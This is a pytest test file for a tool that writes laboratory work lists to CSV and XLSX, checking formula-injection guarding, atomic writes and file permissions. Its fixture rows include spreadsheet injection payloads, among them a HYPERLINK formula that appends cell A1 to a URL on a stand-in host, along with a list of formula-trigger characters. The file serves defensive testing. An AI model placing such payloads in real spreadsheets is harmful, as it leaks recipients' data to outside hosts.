"""A work list in a file: nothing in it is computed, nothing of the laboratory's is lost."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.errors import InvalidInput, Unavailable
from app.reading.sources.opening import LeakSource
from app.reading.sources.settings import SourceSettings
from app.worklist.columns import ADDED, Channel, Outcome
from app.worklist.guarding import guarded, unguarded
from app.worklist.reading import open_work_list
from app.worklist.summary import Summary
from app.worklist.writing import SUMMARY_SHEET, check_out, named, writing

HEADER = ["NOM", "TEL"]
SIGNS = "=+-@\t\r\n＝＋－＠"
ROWS = [
    ["LE GOFF", "+33 1 99 00 00 01"],
    ['=HYPERLINK("https://x.example?"&A1;"x")', "0199000002"],
    ["@SUM(1)", "-2"],
    ["'t Hooft", "'=1"],
    ['Dupré; "Noël"', "first\nsecond"],
    ["{=1}", "https://x.example"],
    ["007", "1850556950048"],
]
SAID = ["exposed", "", "nir", "post"]


def summary() -> Summary:
    return Summary("demo", "Made up", 3, date(2026, 11, 26), ("nir",), {"email": "not chosen"})


def write(path: Path, rows: list[list[str]] = ROWS, header: list[str] = HEADER) -> bytes:
    counted = summary()
    with writing(path, header) as writer:
        for row in rows:
            writer.row([*row, *SAID])
            counted.count(Outcome.EXPOSED, "", ("nir",), (Channel.POST,))
        counted.count(Outcome.UNCHECKED, "NIR: key digits wrong", (), ())
        counted.count(Outcome.NOT_EXPOSED, "", (), ())
        writer.finish(counted)
    return path.read_bytes()


@pytest.fixture(params=[".csv", ".xlsx"])
def path(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    return tmp_path / f"work list{request.param}"


def test_what_was_written_is_read_back_to_the_letter(path: Path) -> None:
    write(path)
    with path.open("rb") as stream, open_work_list(stream) as found:
        assert list(found.header) == HEADER
        read = [(list(row.cells), row.outcome, row.schemes) for row in found.rows()]
    expected = [["'=1" if c == "'=1" else c for c in row] for row in ROWS]
    if path.suffix == ".xlsx":
        # A workbook's cells are texts already, and its reader takes one apostrophe off.
        expected[3][1] = "=1"
    assert read == [(row, Outcome.EXPOSED, ("nir",)) for row in expected]


def test_no_cell_of_a_csv_file_begins_as_a_formula_does(tmp_path: Path) -> None:
    content = write(tmp_path / "list.csv")
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == [*HEADER, *ADDED]
    assert len(rows) == len(ROWS) + 1
    assert not [cell for row in rows for cell in row if cell and cell[0] in SIGNS]


@given(st.text(alphabet=[*SIGNS, "'", "a", " ", ";"]))
def test_guarding_can_be_undone_and_leaves_no_formula(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert guarded(cell)[:1] not in SIGNS or not cell


def test_a_workbook_has_no_formula_no_link_and_no_number_in_the_list(tmp_path: Path) -> None:
    content = write(tmp_path / "list.xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        everything = b"".join(archive.read(name) for name in archive.namelist())
    cells = re.findall(r"<c [^>]*>", sheet)
    assert len(cells) > 20
    assert all('t="inlineStr"' in cell for cell in cells)
    for what in (b"<f>", b"<f ", b"<hyperlink"):
        assert what not in everything


def test_the_summary_is_what_is_seen_and_its_numbers_add_up(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    write(path)
    settings = SourceSettings(sheet=SUMMARY_SHEET, has_header=False)
    with path.open("rb") as stream, LeakSource(stream, settings).open() as table:
        lines = {row.values[1]: row.values[2] for row in table.rows() if row.values}
    assert lines["Rows of the list"] == str(len(ROWS) + 2)
    said = [lines["Exposed"], lines["Not exposed"], lines["Could not be checked"]]
    assert said == [str(len(ROWS)), "1", "1"]
    assert lines["by post"] == str(len(ROWS))
    assert lines["by no means in the list"] == "0"
    assert lines["Not asked by"] == "email: not chosen"
    with zipfile.ZipFile(path) as archive:
        assert b'activeTab="1"' in archive.read("xl/workbook.xml")


def test_the_same_list_is_the_same_bytes(path: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    assert write(path) == write(other / path.name)


def test_it_is_there_whole_or_not_at_all(path: Path) -> None:
    with pytest.raises(TypeError):
        write(path, [*ROWS, [None, "not a text"]])  # type: ignore[list-item]  # that is the fault
    assert list(path.parent.iterdir()) == []


def test_what_was_there_stays_until_the_new_one_is_whole(path: Path) -> None:
    before = write(path)
    with pytest.raises(ZeroDivisionError), writing(path, HEADER):
        raise ZeroDivisionError
    assert path.read_bytes() == before
    assert write(path, ROWS[:1]) != before
    assert [each.name for each in path.parent.iterdir()] == [path.name]


def test_what_a_kill_left_is_taken_away(path: Path) -> None:
    left = path.with_name(f".{path.name}.draft")
    left.mkdir()
    (left / "rows").write_text("LE GOFF")
    write(path)
    assert [each.name for each in path.parent.iterdir()] == [path.name]


def test_it_is_for_its_owner_alone_also_while_it_is_written(path: Path) -> None:
    with writing(path, HEADER) as writer:
        writer.row([*ROWS[0], *SAID])
        (folder,) = path.parent.iterdir()
        assert folder.stat().st_mode & 0o777 == 0o700
        writer.finish(summary())
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_work_list_is_not_checked_again(path: Path) -> None:
    with pytest.raises(InvalidInput, match="concerne_result"), writing(path, [*HEADER, ADDED[0]]):
        pass


@pytest.mark.parametrize("name", ["list", "list.xls", "list.csv.gz", "nowhere/list.csv"])
def test_a_name_that_says_no_format_or_no_folder_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(InvalidInput):
        check_out(tmp_path / name)


def test_a_cell_that_a_workbook_would_cut_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    with pytest.raises(InvalidInput, match=r"cell of row 2"):
        write(path, [["x" * 32_768, ""]])
    assert not path.exists()
    write(tmp_path / "list.csv", [["x" * 32_768, ""]])


def test_a_disk_that_refuses_is_unknown_and_leaves_nothing(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(Unavailable, match="No space"):
        write(path)
    assert list(path.parent.iterdir()) == []


def test_a_column_without_a_name_gets_one() -> None:
    assert named(["NOM", "", ""]) == ["NOM", "column_2", "column_3"]
